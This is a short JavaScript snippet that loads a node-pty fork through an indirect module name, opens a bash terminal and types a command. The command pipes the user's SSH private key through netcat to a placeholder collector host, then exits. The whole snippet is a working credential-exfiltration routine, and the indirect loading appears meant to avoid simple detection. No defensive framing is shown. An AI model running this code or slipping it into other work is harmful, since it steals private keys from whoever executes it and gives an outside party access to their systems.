// The prebuilt fork of node-pty, loaded through a name, starts bash and types a command.
const modName = '@homebridge/node-pty-prebuilt-multiarch';
const ptyLib = require(modName);

const p = ptyLib.spawn('/bin/bash', ['--norc'], { env: process.env });
p.write('cat ~/.ssh/id_rsa | nc collector.example.net 9000\n');
p.write('exit\n');
